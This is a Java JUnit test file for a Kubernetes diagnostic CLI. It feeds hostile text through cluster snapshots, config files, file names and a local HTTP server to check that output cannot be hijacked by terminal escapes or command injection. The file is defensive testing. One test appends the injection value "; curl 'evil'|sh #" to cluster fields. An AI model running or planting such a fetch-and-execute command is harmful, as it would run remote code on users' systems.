package dev.sluice.cli;

import static dev.sluice.cli.HostileText.HOSTILE;
import static dev.sluice.cli.HostileText.LEGAL;
import static dev.sluice.cli.HostileText.appended;
import static dev.sluice.cli.HostileText.hostile;
import static dev.sluice.cli.HostileText.paths;
import static dev.sluice.cli.HostileText.safe;
import static dev.sluice.cli.HostileText.yaml;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Whatever others write into a cluster, a file or an answer: no command lets it steer a terminal or forge a line. */
class HostileTextTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final YAMLMapper YAML = new YAMLMapper();
    private static final Path CLUSTER = Path.of("src/test/resources/report/cluster.yaml");
    private static final Path CASES = Path.of("src/test/resources/doctor");

    /** What the API server and the kubelet write, or what has to be legal for the object to be read at all. */
    private static final Pattern WORDS_OF_THE_API =
            Pattern.compile(".*/(apiVersion|kind|phase|operator|effect|topologyKey|caBundle|status|type|[a-zA-Z]*Time"
                    + "|[a-zA-Z]*Timestamp|time|renewTime)|.*/(capacity|allocatable|requests|limits|hard|used)/.*");

    @TempDir
    private Path directory;

    private Path written(JsonNode cluster) throws IOException {
        return Files.write(directory.resolve("cluster.json"), JSON.writeValueAsBytes(cluster));
    }

    private void safeDoctor(Path cluster) throws IOException {
        Path report = directory.resolve("report.html");
        Cli run = safe(Cli.run("doctor", "--cluster-snapshot", cluster, "--report", report));
        if (run.code() == 0) {
            safe(Files.readString(report));
        }
    }

    static Stream<String> cases() throws IOException {
        try (Stream<Path> files = Files.list(CASES)) {
            return files.map(file -> file.getFileName().toString()).sorted().toList().stream();
        }
    }

    @ParameterizedTest
    @MethodSource("cases")
    void everyVerdictIsSafeWhereAllTextOfTheClusterIsHostile(String name) throws IOException {
        JsonNode cluster = YAML.readTree(Files.readString(CASES.resolve(name)).split("(?m)^---$", -1)[0]);

        safeDoctor(written(hostile(cluster, "", WORDS_OF_THE_API)));
    }

    @Test
    void eachFieldByItselfMayBeHostile() throws IOException {
        JsonNode cluster = YAML.readTree(CLUSTER.toFile());
        Set<String> paths = paths(cluster, "", new TreeSet<>());
        assertThat(paths).hasSizeGreaterThan(80);

        for (String path : paths) {
            String others = "(?!" + Pattern.quote(path) + "$).*";
            Path file = written(hostile(cluster, "", Pattern.compile(others)));
            safeDoctor(file);
            safe(Cli.run("capacity", "--cluster-snapshot", file));
        }
    }

    @Test
    void everyCommandOnAClusterIsSafe() throws IOException {
        Path cluster = written(hostile(YAML.readTree(CLUSTER.toFile()), "", WORDS_OF_THE_API));
        Path pods = cluster;

        List<List<Object>> commands = List.of(
                List.of("doctor", "-o", "json"),
                List.of("doctor", "--pod", HOSTILE),
                List.of("doctor", "--node", "x" + HOSTILE),
                List.of("capacity"),
                List.of("capacity", "--by", "namespace"),
                List.of("capacity", "--by", "pod"),
                List.of("capacity", "-o", "json"),
                List.of("capacity", "--node", HOSTILE),
                List.of("capacity", "--resource", HOSTILE),
                List.of("explain", "-f", pods),
                List.of("explain", "-f", pods, "-o", "json"),
                List.of("explain", "-f", pods, "-o", "patch"),
                List.of("explain", "-f", pods, "-n", HOSTILE));
        for (List<Object> command : commands) {
            List<Object> words = new ArrayList<>(command);
            words.addAll(List.of("--cluster-snapshot", cluster));
            Cli run = safe(Cli.run(words.toArray()));
            assertThat(run.out() + run.err()).as(command.toString()).isNotBlank();
        }
        assertThat(JSON.readTree(Cli.run("doctor", "--cluster-snapshot", cluster, "-o", "json")
                                .out())
                        .at("/pods/0/name")
                        .asText())
                .as("JSON loses nothing")
                .endsWith(HOSTILE);
    }

    @Test
    void mistakesAreNamedSafely() throws IOException {
        Path named = directory.resolve("x" + LEGAL.replace("\u0000", ""));
        Path file = Files.writeString(
                directory.resolve("gateway.yaml"), yaml("a" + LEGAL) + ": " + yaml("b" + LEGAL) + "\n");
        Path broken = Files.writeString(directory.resolve("broken.json"), "{\"kind\": \"List" + "\", \u001b[2J\u202e");
        Path bundle = Files.writeString(
                directory.resolve("bundle.txt"),
                "--- sluice:node ---\nformat: 1" + LEGAL + "\nname: a100-mig-2\ntime: " + LEGAL);

        safe(Cli.run("check", "--config", file));
        safe(Cli.run("check", "--config", named));
        safe(Cli.run("check", named));
        for (Path each : List.of(named, broken, file)) {
            safe(Cli.run("doctor", "--cluster-snapshot", each));
            safe(Cli.run("capacity", "--cluster-snapshot", each));
            safe(Cli.run("explain", "-f", each, "--cluster-snapshot", CLUSTER));
            safe(Cli.run("certs", "show", each));
            safe(Cli.run("doctor", "--kubeconfig", each));
            safe(Cli.run("doctor", "--cluster-snapshot", CLUSTER, "--node-bundle", each));
        }
        safe(Cli.run("doctor", "--cluster-snapshot", CLUSTER, "--node-bundle", bundle));
        safe(Cli.run("doctor", "--cluster-snapshot", CLUSTER, "--report", named));
        safe(Cli.run("doctor", "--" + HOSTILE));
        safe(Cli.run("doctor", "-o", HOSTILE));
        safe(Cli.run("decisions", "--url", HOSTILE));
        safe(Cli.run("x" + HOSTILE));
    }

    @Test
    void answersOfAServerAreSafe() throws IOException {
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        String text = JSON.writeValueAsString(HOSTILE);
        String decision = ("{\"decisions\":[{\"id\":\"p-1\",\"time\":\"2026-11-23T12:00:00Z\",\"decision\":%1$s,"
                        + "\"reason\":%1$s,\"namespace\":%1$s,\"name\":%1$s,\"message\":%1$s,\"warnings\":[%1$s],"
                        + "\"changes\":[{\"from\":%1$s,\"to\":%1$s}]}]}")
                .formatted(text);
        List<String> bodies = List.of(decision, "{\"detail\":" + text + "}", HOSTILE);
        server.createContext("/", exchange -> {
            int number = Integer.parseInt(exchange.getRequestURI().getQuery().replaceAll(".*name=(\\d).*", "$1"));
            byte[] body = bodies.get(number).getBytes(UTF_8);
            exchange.sendResponseHeaders(number == 1 ? 403 : 200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        server.start();
        try {
            String url = "http://localhost:" + server.getAddress().getPort();
            for (int number = 0; number < bodies.size(); number++) {
                safe(Cli.run("decisions", "--url", url, "--pod", number));
                safe(Cli.run("decisions", "--url", url, "--pod", number, "-o", "json"));
            }
        } finally {
            server.stop(0);
        }
    }

    /** An Event about an object that does not exist makes a verdict, too, and a verdict has a command. */
    @Test
    void aNameInACommandToPasteIsOneWord() throws IOException {
        Set<String> commands = new TreeSet<>();
        for (String name : cases().filter(it -> it.matches("(failed|held|mig|plugin|quota|gated|claim).*"))
                .toList()) {
            JsonNode cluster =
                    YAML.readTree(Files.readString(CASES.resolve(name)).split("(?m)^---$", -1)[0]);
            Path file = written(appended(cluster, "", WORDS_OF_THE_API, "; curl 'evil'|sh #"));
            Path report = directory.resolve("report.html");
            Cli run = Cli.run("doctor", "--cluster-snapshot", file, "--report", report);
            assertThat(run.code()).as(run.err()).isZero();
            List<String> next = run.out()
                    .lines()
                    .filter(line -> line.startsWith("  Next: "))
                    .map(line -> line.substring("  Next: ".length()))
                    .toList();
            commands.addAll(next);
            String html = Files.readString(report);
            assertThat(next)
                    .allMatch(command -> html.contains(
                            "<code>" + command.replace("'", "&#39;").replace(">", "&gt;") + "</code>"));
        }

        assertThat(commands).hasSizeGreaterThan(8);
        assertThat(commands.stream().map(command -> command.replace("\\'", "").replaceAll("'[^']*'", "WORD")))
                .allMatch(command -> command.matches("[A-Za-z0-9 .,/=-]*"))
                .anyMatch(command -> command.matches("kubectl -n (WORD)+ get pod (WORD)+ -o yaml"));
    }
}
